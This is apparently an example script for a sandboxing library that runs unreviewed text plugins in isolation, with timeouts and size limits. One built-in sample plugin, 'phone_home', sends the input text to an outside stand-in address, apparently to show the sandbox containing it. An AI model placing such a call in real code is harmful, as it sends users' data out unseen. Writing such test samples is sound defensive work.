"""A host for plugins that nobody has reviewed: a text goes through all of them, and each gets the text and nothing else.

    python examples/plugin_host.py [FOLDER] < text

A plugin is a file with a function `transform(text, settings)`. It may print, which is shown as its log, and tell how far it is. One that
fails, hangs or returns nonsense is left out, with the reason; the host goes on. Without FOLDER, uses three that are written here.
"""

import sys
from pathlib import Path

from shoal import Sandbox, SandboxExecutor
from shoal.executor import CallError

BUILT_IN = {
    "shout": "def transform(text, settings):\n    print('shouting', len(text), 'characters')\n    return text.upper() + settings['mark']",
    "phone_home": """
from urllib.request import urlopen
def transform(text, settings):
    urlopen("http://198.51.100.1/", text.encode(), timeout=2)
""",
    "number": """
from shoal.executor import report
def transform(text, settings):
    lines = text.splitlines()
    for done, _ in enumerate(lines, 1):
        report(done, len(lines), "numbering")
    return "\\n".join(f"{n}  {line}" for n, line in enumerate(lines, 1))
""",
}
CALL = "\nresult = transform(text, settings)"


def run_all(executor, plugins, text):
    """The text after every plugin that worked, and what went wrong with the others."""
    problems = {}
    for name, source in plugins.items():
        call = executor.submit_code(source + CALL, {"text": text, "settings": {"mark": "!"}}, outputs=["result"], name=name)
        try:
            result = call.result()["result"]
            if not isinstance(result, str):
                raise TypeError(f"{name} returned a {type(result).__name__}")
            text = result
        except (CallError, TypeError) as error:
            problems[name] = f"{type(error).__name__}: {error}"
        for line in call.stdout.splitlines():
            print(f"[{name}] {line}", file=sys.stderr)
    return text, problems


def main(arguments):
    plugins = {path.stem: path.read_text() for path in sorted(Path(arguments[0]).glob("*.py"))} if arguments else BUILT_IN
    text = "one\ntwo\n" if sys.stdin.isatty() else sys.stdin.read()
    with SandboxExecutor(Sandbox(tmp="16M"), max_workers=1, warm=1) as executor:
        text, problems = run_all(executor.with_limits(timeout=5, output="64K", result="4M"), plugins, text)
    print(text)
    for name, problem in problems.items():
        print(f"left out: {name}: {problem}", file=sys.stderr)
    return 1 if problems else 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
